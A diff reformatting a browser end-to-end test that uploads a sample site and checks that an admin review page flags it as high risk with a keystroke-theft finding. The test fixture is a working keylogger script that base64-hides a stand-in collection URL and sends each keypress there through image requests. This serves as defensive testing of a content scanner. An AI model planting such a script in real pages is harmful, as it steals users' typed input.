@@ -15,19 +15,25 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
   const token = await apiToken(request, owner.username, owner.password);
   const name = `记事本${Date.now().toString(36)}`;
   const site = await uploadSite(request, token, name, {
-    'index.html': '<!doctype html><title>记事本</title><textarea></textarea><script src="js/note.js"></script>',
+    'index.html':
+      '<!doctype html><title>记事本</title><textarea></textarea><script src="js/note.js"></script>',
     'js/note.js': [
       '// 自动保存',
       'var u = atob("aHR0cHM6Ly9jb2xsZWN0LmtleXNpbmsuZXhhbXBsZS5uZXQvaw==");',
       'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });',
     ].join('\n'),
   });
-  await uploadSite(request, token, `${name}干净`, { 'index.html': '<!doctype html><title>你好</title><p>你好</p>' });
+  await uploadSite(request, token, `${name}干净`, {
+    'index.html': '<!doctype html><title>你好</title><p>你好</p>',
+  });
 
   await signIn(page, ADMIN.username, ADMIN.password);
   await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}`);
   await expect(page.getByRole('link', { name, exact: true })).toBeVisible();
-  const badge = page.getByRole('row').filter({ has: page.getByRole('link', { name, exact: true }) }).locator('.content-check-badge');
+  const badge = page
+    .getByRole('row')
+    .filter({ has: page.getByRole('link', { name, exact: true }) })
+    .locator('.content-check-badge');
   await expect(badge).toHaveText('高风险1');
 
   // Filtered to high risk, only the keylogger stays.
@@ -39,9 +45,15 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
 
   await page.getByRole('link', { name, exact: true }).click();
   await expect(page).toHaveURL(new RegExp(`/admin/reviews/${site.id}`));
-  await expect(page.getByText('脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入')).toBeVisible();
+  await expect(
+    page.getByText(
+      '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入',
+    ),
+  ).toBeVisible();
   await page.getByRole('button', { name: 'js/note.js:3' }).click();
   const excerpt = page.getByLabel('js/note.js:3 摘录');
-  await expect(excerpt).toContainText('document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });');
+  await expect(excerpt).toContainText(
+    'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });',
+  );
   await expect(page.getByText('collect.keysink.example.net').first()).toBeVisible();
 });
